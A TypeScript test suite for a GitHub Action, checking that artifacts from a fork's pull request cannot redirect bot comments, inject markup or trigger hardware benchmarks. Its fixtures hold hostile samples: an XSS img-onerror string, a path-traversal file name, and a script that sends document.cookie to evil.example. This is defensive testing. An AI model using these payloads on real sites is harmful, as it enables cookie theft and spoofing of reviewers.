/**
 * Untrusted pull requests against the Action (issue 14), with event payloads and REST objects in GitHub's
 * shapes (test/fakes/github/payloads.ts) and the real @actions clients against the fake services:
 * - mode report: a fork's artifact that names another PR and another comment's marker comments only on the
 *   fork's own PR (found from GitHub's data), escaped, under a banner; stale, ambiguous and deleted-fork runs
 *   comment nowhere; report-run-id is looked up through the API;
 * - mode benchmark: refuses a deleted fork's workflow_run, and issue_comment / workflow_dispatch runs whose
 *   report-run-id names a fork's run, before touching anything.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startHarness, type Harness, type SimulatedRun } from './harness.js';
import { fakeModel } from './fake-runner.js';
import { BOT, runBackendId } from '../../fakes/github-services.js';
import { MAX_ARTIFACT_BYTES } from '../../../src/action/report-mode.js';
import { issueCommentEvent, pullRequest, workflowDispatchEvent, workflowRun, workflowRunEvent } from '../../fakes/github/payloads.js';

let h: Harness;
const base = { model: 'model.onnx', calib: 'calib.npy', config: 'autoquant.yml', target: 'esp32p4', 'github-token': 'tok', comment: 'always' };
const VICTIM = 7;
const FORK_PR = 9;
const FORK_RUN = 401;
const FORK_SHA = 'f00dfeed';
const bots = (issue: string) => h.fake.api.commentsOn(issue).filter((c) => c.user.type === BOT.type);
const HOSTILE = '<img src=x onerror=alert(1)> @maintainers [click](https://evil.example) ✅ **Quality gate passed** |x| \u202Edeliaf';

/** Uploads `dir` as the artifact 'espdl-autoquant' of run `runId` with the real client (what a fork's job can do). */
async function uploadAs(runId: number, dir: string): Promise<void> {
  h.asRun(runId);
  const { DefaultArtifactClient } = await import('@actions/artifact');
  const files = readdirSync(dir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).map((d) => path.join(d.parentPath, d.name));
  await new DefaultArtifactClient().uploadArtifact('espdl-autoquant', files, dir);
}

beforeAll(async () => {
  h = await startHarness();
  writeFileSync(path.join(h.ws, 'model.onnx'), fakeModel(1));
  writeFileSync(path.join(h.ws, 'calib.npy'), 'unused by the fake quantizer');
  writeFileSync(path.join(h.ws, 'autoquant.yml'), 'num_of_candidates: 2\nrefine_with: []\nstrategy_space:\n  mixed_precision: [false]\n  weight_equalization: [false]\n');
  // The victim: a PR of this repository whose gate failed, reported by the bot.
  const victim = await h.run({ runId: 400, event: 'pull_request', pr: VICTIM, inputs: { ...base, 'min-score': '0' } });
  expect(victim.failed[0]).toMatch(/^Quality gate failed/);
  expect(bots(`o/r#${VICTIM}`)[0]!.body).toContain('❌ **Quality gate failed**');
  // A fork's run: a real artifact of a search, then tampered with as its own workflow could: another PR's
  // number, the victim comment's marker fields, hostile text in an extra, the strategy and the stopped text.
  h.asRun(400);
  const { DefaultArtifactClient } = await import('@actions/artifact');
  const client = new DefaultArtifactClient();
  const { artifact } = await client.getArtifact('espdl-autoquant');
  const dl = mkdtempSync(path.join(h.ws, '..', 'fork-art-'));
  await client.downloadArtifact(artifact.id, { path: dl });
  const forged = mkdtempSync(path.join(h.ws, '..', 'fork-forged-'));
  cpSync(dl, forged, { recursive: true });
  const factsFile = path.join(forged, 'espdl-autoquant.json');
  const facts = JSON.parse(readFileSync(factsFile, 'utf8')) as Record<string, unknown>;
  // The marker fields name another model and target: the marker must come from this job's inputs instead.
  writeFileSync(factsFile, JSON.stringify({ ...facts, prNumber: VICTIM, workflow: 'CI', model: 'hijack.onnx', target: 'esp32s3', stopped: HOSTILE }));
  for (const f of ['summary.json', 'candidates.json']) {
    const recs = JSON.parse(readFileSync(path.join(forged, f), 'utf8')) as Record<string, unknown>[];
    writeFileSync(path.join(forged, f), JSON.stringify(recs.map((r) => ({ ...r, [`${HOSTILE} key`]: HOSTILE, files: ['../../../../etc/hostname.espdl'] }))));
  }
  writeFileSync(path.join(forged, 'report.html'), '<html><script>fetch("https://evil.example/"+document.cookie)</script></html>');
  await uploadAs(FORK_RUN, forged);
  h.fake.api.seedPull(pullRequest({ number: FORK_PR, headRepo: 'mallory/r', headOwner: 'mallory', headBranch: 'patch-1', headSha: FORK_SHA }));
  h.fake.api.seedRun(workflowRun({ id: FORK_RUN, name: 'CI', headRepo: 'mallory/r', headBranch: 'patch-1', headSha: FORK_SHA }));
});
afterAll(async () => h.close());

/** A mode-report job on workflow_run, triggered by `trigger` (GitHub's record of the fork's run). */
const reportOn = (runId: number, trigger: Parameters<typeof workflowRun>[0], inputs: Record<string, string> = {}): SimulatedRun => ({
  runId, event: 'workflow_run', workflow: 'AutoQuant PR report', inputs: { mode: 'report', 'github-token': 'tok', comment: 'always', ...inputs },
  payload: workflowRunEvent(workflowRun(trigger)),
});
const forkTrigger = { id: FORK_RUN, name: 'CI', headRepo: 'mallory/r', headBranch: 'patch-1', headSha: FORK_SHA };

describe('mode report on a fork\'s run', () => {
  it('comments only on the fork\'s own PR, whatever PR number and marker the artifact names', async () => {
    const victimBefore = bots(`o/r#${VICTIM}`).map((c) => c.body);
    const r = await h.run(reportOn(410, forkTrigger, { model: 'model.onnx', target: 'esp32p4' }));
    expect(r.failed).toEqual([]);
    expect(bots(`o/r#${VICTIM}`).map((c) => c.body)).toEqual(victimBefore);
    const mine = bots(`o/r#${FORK_PR}`);
    expect(mine).toHaveLength(1);
    expect(mine[0]!.body.startsWith('<!-- espdl-autoquant report: CI | model.onnx | esp32p4 -->')).toBe(true);
    // Where it came from, above everything, and the artifact's text inert.
    expect(mine[0]!.body).toContain('> [!WARNING]\n> These results were computed and uploaded by run 401 (pull_request) of fork mallory/r');
    for (const body of [mine[0]!.body, r.summary]) {
      expect(body).not.toMatch(/<img|@maintainers|https:\/\/evil|\u202E/);
      expect(body).toContain('&lt;img src=x onerror=alert(1)&gt; @\u200bmaintainers &#91;click&#93;(https:/\u200b/evil.example)');
      expect(body).toContain('stopped early: &lt;img');
    }
    // Output report-path names a page rendered here from the validated run files, not the fork's report.html.
    const html = readFileSync(r.outputs['report-path']!, 'utf8');
    expect(html).not.toMatch(/<script|<img/);
    expect(html).toMatch(/^<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">/);
    expect(html).toContain("<title>AutoQuant search report");
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('finds the PR through report-run-id and the API on workflow_dispatch too', async () => {
    const r = await h.run({ runId: 411, event: 'workflow_dispatch', inputs: { mode: 'report', 'github-token': 'tok', comment: 'always', 'report-run-id': String(FORK_RUN), model: 'model.onnx' },
      payload: workflowDispatchEvent({ 'search-run-id': String(FORK_RUN) }) });
    expect(r.failed).toEqual([]);
    expect(bots(`o/r#${FORK_PR}`)).toHaveLength(1); // the same comment, updated
    expect(bots(`o/r#${VICTIM}`)).toHaveLength(1);
  });

  it('comments nowhere for a stale run, a deleted fork, or a run GitHub does not describe', async () => {
    const writes = h.fake.api.writes.length;
    const stale = await h.run(reportOn(412, { ...forkTrigger, headSha: 'oldsha' }));
    expect(stale.failed).toEqual([]);
    expect(stale.warnings).toContain('No PR comment: no open PR of this repository has head mallory/r:patch-1 at oldsha (closed, or pushed again since).');
    const deleted = await h.run(reportOn(413, { ...forkTrigger, headRepo: null }));
    expect(deleted.warnings).toContain(`No PR comment: run ${FORK_RUN} has no head repository (the fork was deleted): its PR cannot be identified.`);
    expect(deleted.summary).toContain('whose head repository is deleted or unknown');
    const unknown = await h.run({ runId: 414, event: 'workflow_dispatch', inputs: { mode: 'report', 'github-token': 'tok', 'report-run-id': '999' }, payload: workflowDispatchEvent({}) });
    expect(unknown.failed[0]).toMatch(/^run 999: GitHub does not describe it/);
    expect(h.fake.api.writes.length).toBe(writes);
  });

  it('does not download an artifact GitHub lists above the size limit', async () => {
    const art = h.fake.artifacts.ofRun(runBackendId(FORK_RUN)).find((a) => a.name === 'espdl-autoquant')!;
    const size = art.size;
    art.size = MAX_ARTIFACT_BYTES + 1; // what GitHub would list for a fork's 1 GiB upload
    try {
      const before = h.fake.requests.length;
      const r = await h.run(reportOn(416, forkTrigger));
      expect(r.failed).toEqual([`artifact 'espdl-autoquant' (id ${art.id}) is 1024 MB, above the 1024 MB a search artifact may have: not downloaded`]);
      expect(h.fake.requests.slice(before).filter((q) => q.includes(`/blob/`) || q.includes(`/zip`))).toEqual([]);
    } finally {
      art.size = size;
    }
  });

  it('two open PRs from the same fork branch: ambiguous, no comment', async () => {
    h.fake.api.seedPull(pullRequest({ number: 10, headRepo: 'mallory/r', headOwner: 'mallory', headBranch: 'patch-1', headSha: FORK_SHA }));
    try {
      const r = await h.run(reportOn(415, forkTrigger));
      expect(r.warnings).toContain('No PR comment: 2 open PRs have head mallory/r:patch-1: not commenting on any.');
    } finally {
      h.fake.api.pulls.pop();
    }
  });
});

describe('mode benchmark and where its artifact came from', () => {
  const bench = { mode: 'benchmark', 'github-token': 'tok', firmware: 'fw', ports: '/dev/null', flash: 'false' };
  const refused = /^mode benchmark refuses to run for a pull request from a fork: run 401 \(pull_request\) (of fork mallory\/r|whose head repository is deleted or unknown) is not proven to come from this repository/;

  it.each([
    ['a workflow_run of a deleted fork (head_repository null)', { runId: 420, event: 'workflow_run', payload: workflowRunEvent(workflowRun({ ...forkTrigger, headRepo: null })) }],
    ['a workflow_run without head_repository', { runId: 421, event: 'workflow_run', payload: workflowRunEvent({ ...workflowRun(forkTrigger), head_repository: undefined }) }],
    ['an issue_comment whose report-run-id is a fork\'s run', { runId: 422, event: 'issue_comment', payload: issueCommentEvent({ number: VICTIM, body: '/benchmark 401' }), reportRunId: true }],
    ['a workflow_dispatch whose report-run-id is a fork\'s run', { runId: 423, event: 'workflow_dispatch', payload: workflowDispatchEvent({ 'search-run-id': '401' }), reportRunId: true }],
  ] as const)('refuses %s, before anything else', async (_what, sim) => {
    const before = h.fake.requests.length;
    const r = await h.run({ runId: sim.runId, event: sim.event, payload: sim.payload, inputs: { ...bench, ...('reportRunId' in sim ? { 'report-run-id': String(FORK_RUN) } : {}) } });
    expect(r.failed).toHaveLength(1);
    expect(r.failed[0]).toMatch(refused);
    // At most the run lookup was made: no artifact listed or downloaded, no board touched, no comment.
    expect(h.fake.requests.slice(before).filter((q) => !q.startsWith(`GET /repos/o/r/actions/runs/${FORK_RUN}`))).toEqual([]);
  });

  it('a same-repository run named by report-run-id passes the guard', async () => {
    h.fake.api.seedRun(workflowRun({ id: 400, name: 'CI', headRepo: 'o/r', prs: [VICTIM] }));
    const r = await h.run({ runId: 424, event: 'issue_comment', payload: issueCommentEvent({ number: VICTIM, body: '/benchmark 400' }),
      inputs: { ...bench, 'report-run-id': '400' } });
    expect(r.failed.join('\n')).not.toMatch(/refuses to run/);
  });
});
